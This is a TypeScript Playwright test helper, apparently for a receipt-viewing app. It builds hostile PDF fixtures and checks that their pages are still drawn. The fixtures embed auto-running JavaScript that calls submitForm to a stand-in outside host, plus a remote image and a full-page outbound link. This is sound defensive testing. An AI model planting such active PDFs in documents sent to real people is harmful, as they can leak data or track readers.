// PDF receipts: ordinary ones as sellers send them, and hostile ones.
import { expect, type Locator } from 'playwright/test'

interface Paper {
  readonly name: string
  readonly mimeType: string
  readonly buffer: Buffer
}

export const elsewhere = 'http://elsewhere.example/'

/** Each page has its text. The file would run a script, send a form, open a link and load a picture from elsewhere. */
export function harmfulPdf(name: string, pages: readonly string[]): Paper {
  const objects: string[] = []
  const add = (body: string) => objects.push(body)
  const script = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${elsewhere}'\\)) >>`
  const first = 5
  add(
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`,
  )
  add(
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${first + 2 * at} 0 R`).join(' ')}] >>`,
  )
  add('<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>')
  add(
    `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${elsewhere}picture.jpg) >> /FFilter /DCTDecode >>\nstream\n\nendstream`,
  )
  for (const [at, text] of pages.entries()) {
    const content = `BT /F1 20 Tf 40 500 Td (${text}) Tj ET q 80 0 0 80 40 300 cm /X1 Do Q`
    add(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents ${first + 2 * at + 1} 0 R /AA << /O ${script} >> ` +
        '/Resources << /Font << /F1 3 0 R >> /XObject << /X1 4 0 R >> >> ' +
        `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (${elsewhere}) >> >>] >>`,
    )
    add(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`)
  }
  return { name, mimeType: 'application/pdf', buffer: Buffer.from(pdfOf(objects), 'latin1') }
}

function pdfOf(objects: readonly string[]): string {
  // Different bytes each time, so no claim looks like a duplicate.
  let file = `%PDF-1.4\n% ${Math.random()}\n`
  const places = objects.map((body, at) => {
    const place = file.length
    file += `${at + 1} 0 obj\n${body}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  return `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`
}

/** The page's text is there for screen readers, and is drawn. */
export async function expectDrawn(within: Locator, page: string, text: string): Promise<void> {
  const sheet = within.getByRole('img', { name: page })
  await sheet.scrollIntoViewIfNeeded()
  await expect(within.getByText(text)).toBeAttached()
  await expect.poll(() => sheet.evaluate(darkDots)).toBeGreaterThan(50)
}

/** The first page is on the file's tile. A canvas that nothing was drawn on is hidden. */
export async function expectFace(tile: Locator): Promise<void> {
  await tile.scrollIntoViewIfNeeded()
  const face = tile.locator('canvas')
  await expect(face).toBeVisible()
  await expect.poll(() => face.evaluate(darkDots)).toBeGreaterThan(10)
}

function darkDots(sheet: Element): number {
  const { width, height: all } = sheet as HTMLCanvasElement
  // Where the text is; the picture that never comes is further down.
  const height = Math.floor(all / 3)
  const dots = (sheet as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height).data ?? []
  let dark = 0
  for (let at = 0; at < dots.length; at += 4) if ((dots[at] ?? 255) < 90 && dots[at + 3] === 255) dark += 1
  return dark
}
